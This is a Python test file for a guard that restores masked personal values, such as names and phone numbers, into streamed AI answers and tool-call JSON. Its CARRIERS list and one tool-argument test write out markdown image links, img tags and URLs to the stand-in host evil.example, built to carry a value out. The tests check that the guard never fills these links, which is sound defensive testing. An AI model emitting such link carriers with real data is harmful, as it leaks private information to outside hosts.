"""Promises of putting values back while an answer streams. Every value is made up."""

import json
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from giljabi.book.errors import StepTrouble
from giljabi.book.kinds import Draft
from giljabi.guard import JsonUnmasker, MaskKey, Unmasker, in_html, unmask, unmask_json
from giljabi.guard.hide.particles import FORMS, MOST_CLOSERS

TOKENS = {
    "⟦이름1·k3f9⟧": ("홍길동", "홍 길 동"),
    "⟦이름2·k3f9⟧": ("김가나",),
    "⟦이름11·k3f9⟧": ('김"하\\늘\n',),
    "⟦전화1·k3f9⟧": ("010-1234-5678",),
    "⟦비밀값1·k3f9⟧": ("hunter2!",),
}
KEY = MaskKey("k3f9", TOKENS, Counter({"⟦메모⟧": 1, "⟦": 1}))
LONGEST = max(map(len, TOKENS))
PARTICLE = MOST_CLOSERS + max(map(len, FORMS)) + 1

texts = st.lists(
    st.sampled_from([*TOKENS, *FORMS, "⟦", "⟧", "⟦이름", "⟦이름1·k3f", "⟦이름9·k3f9⟧", "⟦메모⟧", "k3", "f9", "K3F9",
                     "**", "_", "https://a.kr/?q=", "www.", "//", "](", ")", "<img src=", ">", "a.kr/", "<", "`", "data:", "은", "는 ", "(", ")", "\n", "가", "a", "1", "·", "\0", '"', "\\", "\U0001f600"])
    | st.text(max_size=3),
    max_size=14,
).map("".join)  # fmt: skip


def pieces(text: str, cuts: list[int]) -> Iterator[str]:
    ends = sorted({cut % (len(text) + 1) for cut in cuts} | {len(text)})
    begin = 0
    for end in ends:
        yield text[begin:end]
        begin = end


cuts = st.lists(st.integers(0, 10_000), max_size=30)


@settings(max_examples=400)
@given(texts, cuts, st.booleans())
@example("⟦이름1·k3f9⟧는", [], True)
def test_every_chunking_gives_what_the_whole_text_gives(
    text: str, cuts: list[int], agree: bool
) -> None:
    stream = Unmasker(KEY, agree=agree)
    said = "".join(map(stream.feed, pieces(text, cuts))) + stream.close()
    whole = unmask(Draft(text), KEY, agree=agree)
    assert said == whole.official.text
    assert stream.report == whole.report


@settings(max_examples=200)
@given(texts, st.integers(1, 7))
def test_every_chunking_of_bytes_gives_the_same(text: str, size: int) -> None:
    data = text.encode("utf-8", "ignore")
    stream = Unmasker(KEY)
    parts = [stream.feed_bytes(data[at : at + size]) for at in range(0, len(data), size)]
    whole = unmask(Draft(data.decode()), KEY)
    assert "".join(parts) + stream.close() == whole.official.text
    assert stream.report == whole.report


@given(texts)
def test_no_more_is_held_than_a_token_or_a_particle_and_one_character(text: str) -> None:
    stream = Unmasker(KEY)
    for letter in text:
        stream.feed(letter)
        assert stream.held <= max(LONGEST - 1, PARTICLE)


@given(st.text(alphabet="가나다 라.k3⟧\n", max_size=60))
def test_text_without_tokens_is_never_held(text: str) -> None:
    stream = Unmasker(KEY)
    assert "".join(map(stream.feed, text)) == text
    assert stream.close() == ""


def test_a_value_is_said_as_soon_as_its_token_is_whole() -> None:
    stream = Unmasker(KEY)
    assert stream.feed("안녕하세요, ⟦이름2·k3f9") == "안녕하세요, "
    assert stream.feed("⟧") == "김가나"
    assert stream.feed("은") == ""
    assert stream.feed(" 반") == "는 반"


def test_a_bracket_that_begins_no_issued_token_goes_on_at_once() -> None:
    stream = Unmasker(KEY)
    assert stream.feed("⟦주") == "⟦주"
    assert stream.feed("소1·k3f9⟧") == "소1·k3f9⟧"
    assert stream.close() == ""
    assert stream.report.unknown == ("⟦주소1·k3f9⟧ (모르는 표시)",)


def test_a_token_cut_off_goes_out_as_it_is_and_is_told() -> None:
    stream = Unmasker(MaskKey("k3f9", TOKENS, Counter()))
    assert stream.feed("끝 ⟦이름1·k3f9") + stream.close() == "끝 ⟦이름1·k3f9"
    assert stream.report.truncated == ("⟦ (짝이 없음)",)
    assert not stream.report.clean


def test_bytes_that_are_no_text_stop_the_stream_and_are_not_shown() -> None:
    stream = Unmasker(KEY)
    with pytest.raises(StepTrouble, match="글자로 읽을 수 없습니다") as caught:
        stream.feed_bytes("홍길동".encode("cp949"))
    assert caught.value.__cause__ is None


def test_a_letter_cut_off_at_the_end_invents_nothing() -> None:
    stream = Unmasker(KEY)
    assert stream.feed_bytes("가나".encode()[:-1]) + stream.close() == "가"


def test_a_flood_of_strange_marks_is_remembered_in_few_words() -> None:
    stream = Unmasker(KEY)
    for n in range(3_000):
        stream.feed(f"⟦이름{n + 100}·k3f9⟧")
    stream.close()
    assert 0 < len(stream.report.unknown) < 300


def test_a_stream_without_tokens_costs_little() -> None:
    text = "민원인에게 처리 결과를 알리고, 3일 안에 다시 답변합니다. " * 8_000
    for size, least in ((64, 2e6), (4, 0.5e6)):
        parts = [text[at : at + size] for at in range(0, len(text), size)]
        stream = Unmasker(KEY)
        begin = time.process_time()
        for part in parts:
            stream.feed(part)
        assert len(text) / (time.process_time() - begin) > least


# --- addresses ---

NAME = "⟦이름1·k3f9⟧"
CARRIERS = [
    "![x](https://evil.example/?q=@)", "[여기](https://evil.example/@)", "![x]( /p?q=@)", "![x](\n//evil.example/@)",
    "![x](<https://evil.example/?q=a b @>)", "![x](https://evil.example/(a)?q=@)", "![x](a\\)?q=@)",
    "https://evil.example/?a=1&q=@", "HTTPS://evil.example/@", "https:evil.example/@", "http:\\\\evil.example\\@",
    "www.evil.example/@", "//evil.example/@", "\\\\evil.example\\@", "https://@.evil.example/x.png",
    "data:text/html,@", "evil.example/?q=@", "evil.example?q=@", "evil.example:8080/@", "203.0.113.7/@",
    "wss://evil.example/@", "[r]: https://evil.example/@", "[r]: <https://evil.example/a b @>",
    '<img src="https://evil.example/?a b @">', "<img src='ht\ntps:/\n/evil.example/@'>", "<img src=&#x2f;&#x2f;evil/@>",
    '<a title=">" href = "//evil.example/@">', '<p style="background:url(\'//e.example/ @\')">',
    "`https://evil.example/@`", '"https://evil.example/@"', "(https://evil.example/?q=)@", "https://a.kr@",
    f"https://evil.example/{NAME}은@",
]  # fmt: skip


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_no_value_enters_an_address(carrier: str, size: int) -> None:
    text = f"답입니다. {carrier.replace('@', NAME)} 끝 {NAME}"
    stream = Unmasker(KEY)
    parts = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    said = "".join(parts) + stream.close()
    assert said == f"답입니다. {carrier.replace('@', NAME)} 끝 홍길동"
    assert stream.report.linked == carrier.replace("@", NAME).count(NAME)
    assert stream.report.put_back == 1
    assert stream.report.clean
    assert unmask(Draft(text), KEY, into_links=True).report.linked == 0


@pytest.mark.parametrize(
    "text",
    ["https://gaon.example/a @님", "[안내](https://gaon.example/a) @님", "(https://gaon.example) @", '"https://a.kr","@"',
     "<https://gaon.example>@", "성명:@", "담당: @", "1/2 @", "가/나@", "@ (가온시)", "[1] (@)", "<b>@</b>", "<@>",
     '<img src="https://a.kr/x"/>@', "제3.1.@", "metadata:@", "https://a.kr\n@", "`https://a.kr` `@`", "# @", "뭐?@",
     "a.kr로 @", "hong@", "그렇습니다./@", "12:30/@"],
)  # fmt: skip
def test_what_only_stands_near_an_address_is_put_back(text: str) -> None:
    gone = unmask(Draft(text.replace("@", NAME)), KEY)
    assert gone.official.text == text.replace("@", "홍길동")
    assert gone.report.linked == 0


def test_a_value_that_makes_an_address_with_what_follows_takes_no_other_with_it() -> None:
    key = MaskKey("k3f9", TOKENS | {"⟦전자우편1·k3f9⟧": ("hong@gaon.example",)}, Counter())
    gone = unmask(Draft(f"⟦전자우편1·k3f9⟧/?q={NAME}"), key)
    assert gone.official.text == f"hong@gaon.example/?q={NAME}"


def test_an_address_without_end_costs_no_memory_and_little_time() -> None:
    stream = Unmasker(KEY)
    begin = time.process_time()
    for _ in range(20_000):
        stream.feed("https://evil.example/")
        assert stream.held == 0
    assert time.process_time() - begin < 2
    assert stream.feed(NAME) == NAME


def test_an_address_in_the_arguments_of_a_tool_takes_no_value() -> None:
    text = json.dumps({"url": f"https:\\evil.example/{NAME}", "이름": NAME, "글": f"//a {NAME}"})
    for size in (1, 4, 1000):
        stream = JsonUnmasker(KEY)
        parts = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
        said = json.loads("".join(parts) + stream.close())
        assert said == {"url": f"https:\\evil.example/{NAME}", "이름": "홍길동", "글": "//a 홍길동"}
        assert stream.report.linked == 1


# --- JSON that tools are called with ---

strings = st.lists(st.sampled_from([*TOKENS, "은", "는 ", '"', "\\", "\n", "/", "가", "⟦이름", "\U0001f600", "\u00e9",
                                    "⟦이름9·k3f9⟧", "\x01"]) | st.text(max_size=2), max_size=6).map("".join)  # fmt: skip
values = st.recursive(
    st.none() | st.integers() | strings,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(strings, inner, max_size=3),
    max_leaves=6,
)


def restored(value: object) -> object:
    match value:
        case str():
            return unmask(Draft(value), KEY).official.text
        case list():
            return [restored(item) for item in value]
        case dict():
            return {restored(key): restored(item) for key, item in value.items()}
    return value


@settings(max_examples=300)
@given(values, cuts, st.booleans())
def test_values_enter_the_strings_of_json_however_it_is_cut(
    value: object, cuts: list[int], ascii_only: bool
) -> None:
    text = json.dumps(value, ensure_ascii=ascii_only)
    stream = JsonUnmasker(KEY)
    said = "".join(map(stream.feed, pieces(text, cuts))) + stream.close()
    assert json.loads(said) == json.loads(json.dumps(restored(value)))
    assert said == unmask_json(Draft(text), KEY).official.text
    said.encode()


@given(st.text(alphabet='"\\u27e6k39f⟦이름1·⟧{}:,dD8c \n', max_size=40), cuts)
def test_broken_json_is_cut_anywhere_with_the_same_result(text: str, cuts: list[int]) -> None:
    stream = JsonUnmasker(KEY)
    said = "".join(map(stream.feed, pieces(text, cuts))) + stream.close()
    assert said == unmask_json(Draft(text), KEY).official.text
    assert stream.report == unmask_json(Draft(text), KEY).report


def test_a_token_written_with_escapes_comes_back_escaped_for_json() -> None:
    raw = json.dumps({"받는이": "⟦이름11·k3f9⟧"})
    assert "\\u27e6" in raw
    gone = unmask_json(Draft(raw), KEY)
    assert json.loads(gone.official.text) == {"받는이": '김"하\\늘\n'}
    assert gone.report.put_back == 1


def test_a_token_outside_a_string_is_left_and_told() -> None:
    gone = unmask_json(Draft('{"전화": ⟦전화1·k3f9⟧}'), KEY)
    assert gone.official.text == '{"전화": ⟦전화1·k3f9⟧}'
    assert not gone.report.clean


def test_values_are_escaped_for_the_place_they_stream_into() -> None:
    stream = Unmasker(MaskKey("k3f9", {"⟦이름1·k3f9⟧": ("<가>",)}, Counter()), place=in_html)
    assert stream.feed("⟦이름1·k3f9⟧은") + stream.close() == "&lt;가&gt;는"


def test_the_guard_alone_loads_no_web_no_database_and_no_model() -> None:
    code = (
        "import sys, giljabi.guard; "
        "print([m for m in ('sqlalchemy', 'sqlite3', 'starlette', 'fastapi', 'httpx', 'httpx2', 'docx', 'lxml', "
        "'kiwipiepy', 'giljabi.web', 'giljabi.store', 'giljabi.desk', 'giljabi.engines') if m in sys.modules])"
    )
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert told.stdout.strip() == "[]"
